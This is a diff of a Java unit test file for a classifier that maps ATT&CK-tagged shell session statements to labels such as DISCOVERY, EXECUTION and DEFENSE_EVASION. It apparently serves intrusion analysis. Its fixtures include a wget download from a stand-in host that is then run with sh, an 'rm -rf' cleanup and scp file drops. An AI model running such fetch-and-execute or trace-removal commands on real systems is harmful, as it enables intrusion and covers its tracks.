@@ -36,18 +36,21 @@ class LabelMappingTest {
                 statement("b ;", "TA0003 T1098.004"),
                 statement("c ;", "TA0040 T1489"),
                 statement("d ;", "TA0005 T1070.003"),
-                statement("e ;", "TA0010 T1048")))
-        .containsExactly(DISCOVERY, PERSISTENCE, IMPACT, DEFENSE_EVASION, OTHER);
+                statement("e ;", "TA0010 T1048"),
+                statement("f g ;", "TA0002 T1059.004")))
+        .containsExactly(DISCOVERY, PERSISTENCE, IMPACT, DEFENSE_EVASION, OTHER, EXECUTION);
   }
 
   @Test
   void someTechniquesCountElsewhereThanTheirTacticSays() {
     assertThat(
             predict(
-                statement("a ;", "TA0011 T1105"),
+                statement("a ;", "TA0006 T1003.008"),
                 statement("b ;", "TA0005 T1222.002"),
-                statement("c ;", "TA0040 T1531")))
-        .containsExactly(EXECUTION, EXECUTION, PERSISTENCE);
+                statement("c ;", "TA0040 T1531"),
+                statement("d ;", "TA0040 T1498.001"),
+                statement("e ;", "TA0005 T1497.001")))
+        .containsExactly(DISCOVERY, EXECUTION, PERSISTENCE, OTHER, DISCOVERY);
   }
 
   @Test
@@ -62,22 +65,93 @@ class LabelMappingTest {
   }
 
   @Test
+  void howSomethingRunsTellsLessThanWhatItIsFor() {
+    assertThat(predict(statement("a ;", "TA0002 T1059.008", "TA0007 T1082")))
+        .containsExactly(DISCOVERY);
+  }
+
+  @Test
   void preparationsBelongToWhatFollowsAndTheRestToWhatWentBefore() {
     assertThat(
             predict(
                 statement("a ;", "TA0007 T1082"),
                 statement("cd /tmp ;"),
-                statement("b ;", "TA0011 T1105"),
+                statement("b ;", "TA0040 T1489"),
                 statement("c ;"),
-                statement("d ;", "TA0005 T1070.004"),
+                statement("d &&"),
+                statement("e ;", "TA0005 T1070.003"),
                 statement("cd / ;")))
         .containsExactly(
-            DISCOVERY, EXECUTION, EXECUTION, EXECUTION, DEFENSE_EVASION, DEFENSE_EVASION);
+            DISCOVERY, IMPACT, IMPACT, IMPACT, DEFENSE_EVASION, DEFENSE_EVASION, DEFENSE_EVASION);
+  }
+
+  @Test
+  void openingAShellBelongsToWhatIsTypedIntoIt() {
+    assertThat(predict(statement("sh ;", "TA0002 T1059.004"), statement("a ;", "TA0007 T1082")))
+        .containsExactly(DISCOVERY, DISCOVERY);
+    assertThat(predict(statement("./x ;", "TA0002 T1059.004"), statement("a ;", "TA0007 T1082")))
+        .containsExactly(EXECUTION, DISCOVERY);
+    assertThat(predict(statement("sh ;", "TA0002 T1059.004"))).containsExactly(EXECUTION);
+  }
+
+  @Test
+  void aFileThatIsBroughtAndNeverRunIsHarmless() {
+    TaggedStatement brought = statement("wget http://192.0.2.7/x ;", "TA0011 T1105");
+    assertThat(predict(brought)).containsExactly(HARMLESS);
+    assertThat(predict(brought, statement("sh x ;"))).containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(brought, statement("/bin/sh x ;"))).containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(brought, statement("/bin/ls x ;"))).containsExactly(HARMLESS, HARMLESS);
+    assertThat(predict(brought, statement("/tmp/x ;"))).containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(brought, statement("a ;", "TA0005 T1222.002")))
+        .containsExactly(EXECUTION, EXECUTION);
+  }
+
+  @Test
+  void aProgramThatScpBringsIsMeantToRun() {
+    TaggedStatement brought = statement("scp -t /tmp ;", "TA0011 T1105");
+    assertThat(predict(brought, statement("C0755 123 name ;")))
+        .containsExactly(EXECUTION, EXECUTION);
+    assertThat(predict(brought, statement("C0644 123 name ;"))).containsExactly(HARMLESS, HARMLESS);
+  }
+
+  @Test
+  void aRemovalHidesWhatWasDoneAndMakesRoomForWhatWasNot() {
+    TaggedStatement removal = statement("rm -rf /tmp/name ;", "TA0005 T1070.004");
+    TaggedStatement stop = statement("a ;", "TA0040 T1489");
+    assertThat(predict(removal, stop, removal)).containsExactly(IMPACT, IMPACT, DEFENSE_EVASION);
+    assertThat(predict(removal)).containsExactly(DEFENSE_EVASION);
+  }
+
+  @Test
+  void whatHandlesAFileBelongsToTheStepThatNamedItFirst() {
+    TaggedStatement named = statement("wget http://192.0.2.7/name ;", "TA0011 T1105");
+    TaggedStatement look = statement("a ;", "TA0007 T1082");
+    assertThat(predict(named, look, statement("tar xf /tmp/name ;"), statement("tar xf other ;")))
+        .containsExactly(HARMLESS, DISCOVERY, HARMLESS, DISCOVERY);
+    TaggedStatement probe = statement("echo 1 > /tmp/name ;", "TA0007 T1083");
+    assertThat(predict(probe, statement("rm /tmp/name ;", "TA0005 T1070.004")))
+        .containsExactly(DISCOVERY, DISCOVERY);
+  }
+
+  @Test
+  void textOfAPromptIsHarmless() {
+    assertThat(predict(statement("a ;", "TA0007 T1082"), statement("New password: ;")))
+        .containsExactly(DISCOVERY, HARMLESS);
   }
 
   @Test
   void withoutAnyTagEverythingIsHarmless() {
     assertThat(predict(statement("cd /tmp ;"), statement("a |"), statement("b")))
         .containsExactly(HARMLESS, HARMLESS, HARMLESS);
+    assertThat(predict()).isEmpty();
+  }
+
+  @Test
+  void manyRemovalsInARowTakeNoLongerThanAnythingElse() {
+    List<TaggedStatement> session = new java.util.ArrayList<>();
+    for (int i = 0; i < 20_000; i++) {
+      session.add(statement("rm x ;", "TA0005 T1070.004"));
+    }
+    assertThat(LabelMapping.predict(session)).hasSize(20_000).containsOnly(DEFENSE_EVASION);
   }
 }
